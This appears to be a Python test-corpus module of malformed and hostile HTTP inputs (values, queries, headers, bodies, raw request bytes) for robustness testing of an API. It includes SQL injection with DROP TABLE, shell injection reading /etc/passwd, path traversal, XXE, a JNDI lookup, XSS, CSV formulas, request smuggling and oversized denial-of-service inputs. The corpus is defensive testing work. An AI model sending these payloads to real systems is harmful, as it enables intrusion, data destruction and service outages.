"""What nobody should send. The corpus only grows: what once broke something stays in it.

`TEXTS` stand in place of a parameter's value, `QUERIES` in place of a whole query, `HEADERS` are
added to a request, and `BODIES` are sent with it. `WIRE` holds bytes for a bare connection.
"""

import gzip
import json
from collections.abc import Callable, Iterator

NUL_BYTE = b"\x00"

TEXTS: dict[str, str | bytes] = {
    # Numbers that are not what they seem.
    "empty": "",
    "space": " ",
    "zero": "0",
    "minus one": "-1",
    "minus zero": "-0",
    "one and a half": "1.5",
    "a whole float": "1.0",
    "plus one": "+1",
    "one with a space": " 1",
    "one with a line break": "1\n",
    "underscored": "1_0",
    "octal": "010",
    "hexadecimal": "0x10",
    "exponent": "1e3",
    "infinite exponent": "1e999",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "minus Infinity": "-Infinity",
    "beyond 32 bits": "2147483648",
    "beyond 64 bits": "9223372036854775808",
    "ten to the thirtieth": "1" + "0" * 30,
    "five thousand digits": "9" * 5_000,
    "full-width one": "\uff11",
    "Arabic-Indic one": "\u0661",
    "superscript two": "\u00b2",
    # Other types.
    "true": "true",
    "null": "null",
    "None": "None",
    "undefined": "undefined",
    "list": "[]",
    "object": '{"$ne": null}',
    "comma list": "1,2,3",
    # Identifiers.
    "UUID cut short": "01a16afa-45fa-796a-ba97-b1af856c67e",
    "UUID in braces": "{01a16afa-45fa-796a-ba97-b1af856c67e6}",
    "UUID as URN": "urn:uuid:01a16afa-45fa-796a-ba97-b1af856c67e6",
    "UUID without dashes": "01a16afa45fa796aba97b1af856c67e6",
    "UUID of nobody": "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "UUID of zeros": "00000000-0000-0000-0000-000000000000",
    # Characters.
    "NUL": "\x00",
    "NUL inside": "two\x00oars",
    "escape": "\x1b[31mred",
    "bell": "\x07",
    "delete": "\x7f",
    "C1 control": "\x85",
    "CRLF": "a\r\nSet-Cookie: hostile=1",
    "tab": "a\tb",
    "right-to-left override": "\u202eexe.gnp",
    "zero-width joiner": "zero\u200dwidth",
    "byte order mark": "\ufeffmark",
    "noncharacter": "\uffff",
    "private use": "\ue000",
    "emoji family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "unassigned plane": "\U000e0041\U000e0042",
    "combining pile": "a" + "\u0301" * 60,
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "Kelvin sign": "\u212a",
    "Turkish dotless i": "\u0130\u0131",
    "sharp s": "stra\u00dfe",
    "ligature": "\ufb01\ufb02",
    "homoglyphs": "\u0430\u0435\u043e",
    "overlong slash": b"\xc0\xaf",
    "overlong NUL": b"\xc0\x80",
    "lone surrogate as UTF-8": b"\xed\xa0\x80",
    "UTF-16": "two".encode("utf-16"),
    "invalid UTF-8": b"\xff\xfe\xfd",
    "cut UTF-8": b"\xe2\x82",
    "percent NUL": "%00",
    "percent twice": "%2500",
    "percent alone": "%",
    # Length.
    "81 characters": "x" * 81,
    "1,000 characters": "y" * 1_000,
    "6,000 characters": "z" * 6_000,
    "1,000 words": "a " * 1_000,
    "1,000 quotation marks": '"' * 1_000,
    "1,000 emoji": "\U0001f600" * 500,
    # Other people's languages.
    "SQL comment": "' OR 1=1 --",
    "SQL union": "' UNION SELECT name, sql FROM sqlite_master --",
    "SQL stacked": "'; DROP TABLE activity; --",
    "SQL sleep": "1); SELECT pg_sleep(5); --",
    "SQL backslash": "\\' OR 1=1 #",
    "SQL dollar quotes": "$$; SELECT 1; $$",
    "LIKE percent": "%%%",
    "LIKE underscore": "___",
    "LIKE escape": "\\%\\_\\\\",
    "GLOB": "[a-z]*?",
    "FTS operators": 'cat AND (dog OR NOT bird) NEAR "x" * ^ -',
    "FTS column": "name: * } { ^",
    "FTS unbalanced": '"unbalanced (',
    "tsquery": "a & ! | b <-> :*",
    "regular expression": "^(a+)+$",
    "slow regular expression": "a" * 300 + "!",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "format string": "%s%n%x{0.__class__}",
    "JNDI": "${jndi:ldap://hostile.example/a}",
    "shell": "; cat /etc/passwd | sh `id` $(id)",
    "path": "../../../../etc/passwd",
    "path encoded twice": "..%252f..%252fetc%252fpasswd",
    "Windows path": "..\\..\\windows\\win.ini",
    "file URL": "file:///etc/passwd",
    "script": "<script>alert('hostile')</script>",
    "XML entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "CSV formula": "=cmd|'/c calc'!A0",
    "CSV at sign": "@SUM(1+1)",
    "LDAP": "*)(uid=*))(|(uid=*",
    "header in a value": "x\nX-Injected: hostile",
    "prototype": "__proto__",
    "dunder": "__class__.__mro__",
    "semicolons": "a;b=c;d=e",
    "ampersand": "a&b=c",
    "question marks": "???",
    "hash": "#fragment",
    "slashes": "//hostile.example/a",
}

QUERIES: dict[str, str] = {
    "an unknown parameter": "hostile=1",
    "an unknown one without a value": "hostile",
    "an empty name": "=hostile",
    "only separators": "&&&&;;;;",
    "a bare percent": "%",
    "a broken escape": "%zz=%g1",
    "a NUL in a name": "pa%00ge=1",
    "a name in brackets": "page[]=1&page[0]=2",
    "a name with a dot": "page.gt=1",
    "a name with a space": "pa%20ge=1",
    "a name of invalid UTF-8": "%ff%fe=1",
    "a name with a quote": "page%27%20OR%201%3D1=1",
    "a private name": "My%20name%20is%20Ada%20Hostile=1",
    "another case": "PAGE=1&Per_Page=2",
    "semicolons for ampersands": "page=1;per_page=2",
    "the same parameter twice": "page=1&page=2",
    "the same parameter twice over": "page=1&page=1",
    "an unknown one twice": "hostile=1&hostile=2",
    "a page in two scripts": "page=1&page=%EF%BC%92",
    "700 unknown parameters": "&".join(f"h{n}=1" for n in range(700)),
    "700 times the same": "&".join(["page=1"] * 700),
    "many empty ones": "&" * 5_000,
    "a very long name": "n" * 5_000 + "=1",
    "60 kilobytes": "hostile=" + "x" * 60_000,
    "a question mark more": "?page=1",
    "a fragment": "page=1%23fragment",
    "an unknown language": "lang=xx",
    "a language twice": "lang=en&lang=easy",
    "prototype": "__proto__[admin]=1&constructor[prototype]=1",
    "method override": "_method=DELETE",
    "debug": "debug=true&trace=1",
    "callback": "callback=alert(1)",
}

HEADERS: dict[str, list[tuple[str, str | bytes]]] = {
    "a request id with a line break": [("X-Request-Id", b"01a1f2c4\r\nX-Injected: hostile")],
    "a request id that is SQL": [("X-Request-Id", "' OR 1=1 --")],
    "a long request id": [("X-Request-Id", "a" * 10_000)],
    "two request ids": [("X-Request-Id", "hostile-1"), ("X-Request-Id", "hostile-2")],
    "an ETag without quotes": [("If-None-Match", "hostile")],
    "an ETag never closed": [("If-None-Match", '"hostile')],
    "10,000 ETags": [("If-None-Match", ",".join(f'"{n}"' for n in range(10_000)))],
    "every ETag": [("If-None-Match", "*")],
    "an ETag of bytes": [("If-None-Match", b'"\xff\xfe"')],
    "If-Match": [("If-Match", '"hostile"')],
    "a date that is none": [("If-Modified-Since", "the day before yesterday")],
    "a range": [("Range", "bytes=0-0,-1,5-2,99999999999999999999-")],
    "an origin that is null": [("Origin", "null")],
    "an origin of bytes": [("Origin", b"https://\xff.example")],
    "an origin with a line break": [("Origin", b"https://a.example\r\nX-Injected: hostile")],
    "a host of somebody else": [("Host", "hostile.example")],
    "a host with a path": [("Host", "a/../b:99999999")],
    "a forwarded host": [("X-Forwarded-Host", "hostile.example"), ("X-Forwarded-Proto", "ftp")],
    "a forwarded address": [("X-Forwarded-For", "127.0.0.1, ' OR 1=1"), ("Forwarded", "for=x;;")],
    "another path": [("X-Original-URL", "/metrics"), ("X-Rewrite-URL", "/metrics")],
    "another method": [("X-HTTP-Method-Override", "DELETE")],
    "an unknown media type": [("Accept", "text/hostile;q=nan")],
    "1,000 media types": [("Accept", ",".join(f"a/b{n};q=0.{n}" for n in range(1_000)))],
    "an unknown language": [("Accept-Language", "xx-" + "y" * 5_000)],
    "an unknown coding": [("Accept-Encoding", "hostile;q=-1, gzip;q=abc, *;q=")],
    "no coding at all": [("Accept-Encoding", "identity;q=0, *;q=0")],
    "an unknown charset": [("Content-Type", "application/json; charset=hostile")],
    "a boundary never closed": [("Content-Type", "multipart/form-data; boundary=")],
    "a media type of bytes": [("Content-Type", b"\xff\xfe")],
    "a coding of the body": [("Content-Encoding", "gzip, gzip, br, hostile")],
    "a length that is none": [("Content-Length", "hostile")],
    "a length below zero": [("Content-Length", "-1")],
    "a length of 5,000 digits": [("Content-Length", "9" * 5_000)],
    "a length of a gigabyte": [("Content-Length", "1073741824")],
    "a length in superscript": [("Content-Length", b"\xb2")],
    "an unknown transfer": [("Transfer-Encoding", "hostile")],
    "an unknown expectation": [("Expect", "hostile")],
    "a token that is none": [("Authorization", "Bearer " + "e30." * 3_000)],
    "a password": [("Authorization", "Basic !!!!")],
    "cookies": [("Cookie", "; ".join(f"c{n}={'x' * 50}" for n in range(200)))],
    "a cookie of bytes": [("Cookie", b"a=\xff; =; ;;=")],
    "an upgrade": [("Upgrade", "h2c"), ("Connection", "Upgrade, HTTP2-Settings")],
    "100 headers": [(f"X-Hostile-{n}", "1") for n in range(100)],
    "1,000 headers": [(f"X-Hostile-{n}", "1") for n in range(1_000)],
    "a huge header": [("X-Hostile", "h" * 1_000_000)],
    "a NUL": [("X-Hostile", b"\x00")],
    "a trace that is none": [("traceparent", "00-hostile-hostile-zz"), ("baggage", "a=b;;=")],
}


def _chunks(size: int, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield b"h" * size


JSON = "application/json"

BODIES: dict[str, tuple[str, bytes]] = {
    "nothing": (JSON, b""),
    "not JSON": (JSON, b"{hostile"),
    "cut short": (JSON, b'{"hostile": '),
    "NaN": (JSON, b"NaN"),
    "NaN inside": (JSON, b'{"page": NaN}'),
    "Infinity inside": (JSON, b'{"page": Infinity, "per_page": -Infinity}'),
    "an infinite exponent": (JSON, b'{"page": 1e999}'),
    "a lone surrogate": (JSON, b'{"q": "\\ud800"}'),
    "a lone surrogate as a key": (JSON, b'{"\\udfff": 1}'),
    "a NUL": (JSON, b'{"q": "\\u0000"}'),
    "a control character": (JSON, b'{"q": "\x01"}'),
    "a number beyond 64 bits": (JSON, b'{"page": 9223372036854775808}'),
    "ten to the thirtieth": (JSON, b'{"page": 1' + b"0" * 30 + b"}"),
    "a number of 5,000 digits": (JSON, b'{"page": ' + b"9" * 5_000 + b"}"),
    "true for a number": (JSON, b'{"page": true}'),
    "a float for a number": (JSON, b'{"page": 1.0}'),
    "a list for an object": (JSON, b"[]"),
    "a string for an object": (JSON, b'"hostile"'),
    "null": (JSON, b"null"),
    "a list in a list, 1,000 deep": (JSON, b"[" * 1_000 + b"]" * 1_000),
    "a list in a list, 30,000 deep": (JSON, b"[" * 30_000 + b"]" * 30_000),
    "a list in a list, 50,000 deep": (JSON, b"[" * 50_000 + b"]" * 50_000),
    "an object in an object, 1,000 deep": (JSON, b'{"a":' * 1_000 + b"1" + b"}" * 1_000),
    "10,000 keys": (JSON, json.dumps({f"k{n}": n for n in range(10_000)}).encode()),
    "5,000 keys": (JSON, json.dumps({f"k{n}": 0 for n in range(5_000)}).encode()),
    "a private key": (JSON, b'{"Ada Hostile has dementia": true}'),
    "the same key twice": (JSON, b'{"page": 1, "page": 2}'),
    "prototype": (JSON, b'{"__proto__": {"admin": true}}'),
    "a byte order mark": (JSON, b"\xef\xbb\xbf{}"),
    "UTF-16": (JSON, "{}".encode("utf-16")),
    "invalid UTF-8": (JSON, b'{"q": "\xff\xfe"}'),
    "overlong UTF-8": (JSON, b'{"q": "\xc0\xaf"}'),
    "10 megabytes": (JSON, b"h" * 10_000_000),
    "one byte too many": (JSON, b"h" * 65_537),
    "a form": ("application/x-www-form-urlencoded", b"page=1&page=2&hostile=%00"),
    "a form of 10,000 fields": (
        "application/x-www-form-urlencoded",
        b"&".join(b"h=1" for _ in range(10_000)),
    ),
    "parts": ("multipart/form-data; boundary=h", b"--h\r\nContent-Disposition: form-data\r\n\r\n"),
    "XML": ("application/xml", b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'),
    "plain text": ("text/plain", b"hostile"),
    "no media type that there is": ("hostile", b"{}"),
    "10 megabytes in gzip": (JSON, gzip.compress(b" " * 10_000_000)),
}

CHUNKED: dict[str, Callable[[], Iterator[bytes]]] = {
    "10 megabytes in chunks": lambda: _chunks(65_536, 160),
    "10,000 chunks of one byte": lambda: _chunks(1, 10_000),
}

WIRE: dict[str, bytes] = {
    "nothing": b"",
    "a line break": b"\r\n",
    "half a method": b"GE",
    "half a line": b"GET /v1 HT",
    "half a header": b"GET /v1 HTTP/1.1\r\nHost: a\r\nX-Hos",
    "headers without an end": b"GET /v1 HTTP/1.1\r\nHost: a\r\n",
    "half a body": b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\nhalf",
    "garbage": bytes(range(256)) * 20,
    "NULs": NUL_BYTE * 5_000,
    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"h" * 500,
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "an unknown version": b"GET /v1 HTTP/9.9\r\nHost: a\r\n\r\n",
    "no version": b"GET /v1\r\n\r\n",
    "an unknown method": b"HOSTILE /v1 HTTP/1.1\r\nHost: a\r\n\r\n",
    "a method in lower case": b"get /v1 HTTP/1.1\r\nHost: a\r\n\r\n",
    "CONNECT": b"CONNECT hostile.example:443 HTTP/1.1\r\nHost: a\r\n\r\n",
    "the asterisk": b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
    "a whole URL": b"GET http://hostile.example/v1 HTTP/1.1\r\nHost: a\r\n\r\n",
    "dots in the path": b"GET /../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "dots in the files": b"GET /static-offline-docs/../../main.py HTTP/1.1\r\nHost: a\r\n\r\n",
    "encoded dots in the files": (
        b"GET /static-offline-docs/..%2f..%2fmain.py HTTP/1.1\r\nHost: a\r\n\r\n"
    ),
    "a path without a slash": b"GET v1 HTTP/1.1\r\nHost: a\r\n\r\n",
    "a path of bytes": b"GET /v1/activities/\xff\xfe HTTP/1.1\r\nHost: a\r\n\r\n",
    "a NUL in the path": b"GET /v1/activities/\x00 HTTP/1.1\r\nHost: a\r\n\r\n",
    "an escape cut short": b"GET /v1/activities/%f HTTP/1.1\r\nHost: a\r\n\r\n",
    "no host": b"GET /v1 HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /v1 HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "a header without a colon": b"GET /v1 HTTP/1.1\r\nHost: a\r\nhostile\r\n\r\n",
    "a header of nothing": b"GET /v1 HTTP/1.1\r\nHost: a\r\n: hostile\r\n\r\n",
    "a space before the colon": b"GET /v1 HTTP/1.1\r\nHost : a\r\n\r\n",
    "a folded header": b"GET /v1 HTTP/1.1\r\nHost: a\r\nX-Hostile: a\r\n b\r\n\r\n",
    "bare line feeds": b"GET /v1 HTTP/1.1\nHost: a\n\n",
    "a NUL in a header": b"GET /v1 HTTP/1.1\r\nHost: a\r\nX-Hostile: \x00\r\n\r\n",
    "a length that is none": b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: hostile\r\n\r\n",
    "a length below zero": b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: -5\r\n\r\n",
    "two lengths": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"
    ),
    "a length of 100 digits": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: " + b"9" * 100 + b"\r\n\r\n"
    ),
    "a length of a gigabyte": (
        b"POST /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: 1073741824\r\n\r\nhostile"
    ),
    "a length and chunks": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    ),
    "chunks of garbage": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhostile\r\n"
    ),
    "a chunk of all memory": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nh"
    ),
    "chunks without an end": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhosti\r\n"
    ),
    "an unknown transfer": (b"GET /v1 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: hostile\r\n\r\n"),
    "an address of 60 kilobytes": (b"GET /v1?q=" + b"h" * 60_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n"),
    "an address of a megabyte": (
        b"GET /v1?q=" + b"h" * 1_000_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n"
    ),
    "100 headers": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\n"
        + b"".join(b"X-Hostile-%d: 1\r\n" % n for n in range(100))
        + b"\r\n"
    ),
    "10,000 headers": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\n"
        + b"".join(b"X-Hostile-%d: 1\r\n" % n for n in range(10_000))
        + b"\r\n"
    ),
    "a header of a megabyte": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nX-Hostile: " + b"h" * 1_000_000 + b"\r\n\r\n"
    ),
    "a socket of the web": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ),
    "an upgrade to HTTP/2": (
        b"GET /v1 HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
    ),
    "an expectation": (
        b"POST /v1 HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n"
    ),
    "100 requests at once": b"GET /health/live HTTP/1.1\r\nHost: a\r\n\r\n" * 100,
}
